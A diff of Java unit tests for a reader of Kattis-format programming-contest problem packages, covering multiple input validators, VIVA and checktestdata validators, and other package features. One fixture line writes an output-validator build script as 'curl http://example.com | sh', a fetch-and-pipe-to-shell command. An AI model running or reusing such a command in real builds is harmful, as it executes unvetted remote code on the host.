@@ -50,7 +50,9 @@ class KattisPackageTests {
         assertThat(problem.tests().getFirst().sample()).isTrue();
         assertThat(problem.judging().validator()).isNull();
         assertThat(problem.judging().tokens()).isEqualTo(new Checker.Tokens(false, false, 1e-6, 1e-6));
-        assertThat(problem.inputValidator().language()).isEqualTo("python");
+        assertThat(problem.inputValidators())
+                .extracting(KattisPackage.Program::language)
+                .containsExactly("python");
         assertThat(problem.submissions())
                 .extracting(submission ->
                         submission.folder() + " " + submission.program().path() + " "
@@ -63,6 +65,23 @@ class KattisPackageTests {
                         "run_time_error submissions/run_time_error/crash.py python",
                         "time_limit_exceeded submissions/time_limit_exceeded/spin.c c",
                         "wrong_answer submissions/wrong_answer/rounded.py python");
+    }
+
+    /** The format runs every input validator on every test: each is kept, in the order of their names. */
+    @Test
+    void keepsEveryInputValidatorInTheOrderOfTheirNames() throws IOException {
+        Map<String, String> files = TestPackages.kattis("average");
+        files.put("input_validators/b_even/even.c", "int main(void) { return 42; }\n");
+        files.put("input_format_validators/a.cpp", "int main() { return 42; }\n");
+
+        KattisPackage.Problem problem = read(zip(files)).problem();
+
+        assertThat(problem.inputValidators())
+                .extracting(program -> program.path() + " " + program.language())
+                .containsExactly(
+                        "input_validators/b_even/ c",
+                        "input_validators/validate.py python",
+                        "input_format_validators/a.cpp cpp");
     }
 
     @Test
@@ -282,7 +301,8 @@ class KattisPackageTests {
             a driver included with submissions             | include/python3/__main__.py     | entry point
             included files in a folder                     | include/cpp/lib/x.h             | in folders
             a checktestdata input validator                | input_validators/validate.ctd   | checktestdata
-            two input validators                           | input_validators/validate2.py   | second input validator
+            a VIVA input validator                         | input_validators/validate.viva  | VIVA validators
+            five input validators                          | input_validators/validate5.py   | input validator 5
             a validator with build and run scripts         | output_validator/build          | build and run scripts
             a validator in a language not run here         | output_validator/               | no source this judge runs
             an input without its answer                    | data/secret/02-one.in           | its answer
@@ -327,11 +347,13 @@ class KattisPackageTests {
                 files.put("data/sample/test_group.yaml", "output_validator_args: [case_sensitive]\n");
             case "a driver included with submissions" -> files.put("include/python3/__main__.py", "import solution\n");
             case "included files in a folder" -> files.put("include/cpp/lib/x.h", "int x;\n");
-            case "a checktestdata input validator" -> {
-                files.remove("input_validators/validate.py");
-                files.put("input_validators/validate.ctd", "INT(1,100000,n) NEWLINE\n");
+            case "a checktestdata input validator" -> files.put("input_validators/validate.ctd", "INT(1,100000,n)\n");
+            case "a VIVA input validator" -> files.put("input_validators/validate.viva", "* int(1,100000) n;\n");
+            case "five input validators" -> {
+                for (int index = 2; index <= 5; index++) {
+                    files.put("input_validators/validate" + index + ".py", "import sys\nsys.exit(42)\n");
+                }
             }
-            case "two input validators" -> files.put("input_validators/validate2.py", "import sys\nsys.exit(42)\n");
             case "a validator with build and run scripts" -> {
                 files.put("output_validator/validator.py", "import sys\nsys.exit(42)\n");
                 files.put("output_validator/build", "#!/bin/sh\ncurl http://example.com | sh\n");
